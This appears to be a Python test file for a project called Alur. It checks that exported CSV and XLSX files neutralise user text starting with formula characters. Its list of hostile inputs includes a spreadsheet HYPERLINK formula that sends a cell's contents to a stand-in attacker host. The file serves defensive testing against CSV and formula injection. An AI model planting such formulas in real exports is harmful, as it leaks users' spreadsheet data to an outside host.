"""User text never becomes a live formula in the XLSX and CSV files Alur writes."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest

from engine.eventlog.csvlog import write_csv
from engine.eventlog.model import LogEvent
from engine.formats.spreadsheet import neutralise, neutralise_row
from engine.monitoring.workbook import EvaluationForm, MonitoringForm, MonitoringRow, evaluation_xlsx, monitoring_xlsx

HOSTILE = ['=HYPERLINK("http://jahat.example/?x="&A1,"klik")', "=2+5", "+2+5", "-2+5", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_gets_an_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+3.25", "-0,5", "1e5", "Surat masuk", "", 7, None, -2.5, "a=b"])
def test_numbers_and_plain_text_stay(value: object) -> None:
    assert neutralise(value) == value


def test_a_row_is_neutralised_cell_by_cell() -> None:
    assert neutralise_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


def test_the_event_log_csv_writes_no_formula() -> None:
    moment = dt.datetime(2026, 5, 4, 8, 0, tzinfo=dt.timezone.utc)
    stream = io.StringIO(newline="")
    write_csv([LogEvent("=2+5", HOSTILE[0], moment, resource="@ani", role="-x")], stream)
    line = stream.getvalue().splitlines()[1]
    cells = line.split(",")
    assert cells[0] == "'=2+5" and "'@ani" in line and "'-x" in line
    assert not any(cell.startswith(("=", "+", "@", '"=')) for cell in cells)


def _cells(data: bytes) -> list[str]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def test_the_monitoring_and_evaluation_workbooks_write_no_formula() -> None:
    form = MonitoringForm("=SOP", "1", "Unit", dt.date(2026, 1, 1), dt.date(2026, 6, 30), assessor="@ani",
                          rows=[MonitoringRow(1, "=2+5", None, notes=HOSTILE[0], action="+1+A1", initials="-a")])
    evaluation = EvaluationForm("SOP", "1", "Unit", dt.date(2026, 6, 30), notes="=2+5")
    for data in (monitoring_xlsx(form, "id"), evaluation_xlsx(evaluation, "id")):
        cells = _cells(data)
        assert cells and not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
    assert "'" + HOSTILE[0] in _cells(monitoring_xlsx(form, "id"))


@pytest.mark.parametrize("text", [*HOSTILE, "'=x", "''=x", "'abc", "-5", "plain"])
def test_restore_undoes_exactly_what_neutralise_did(text: str) -> None:
    from engine.formats.spreadsheet import restore

    assert restore(neutralise(text)) == text
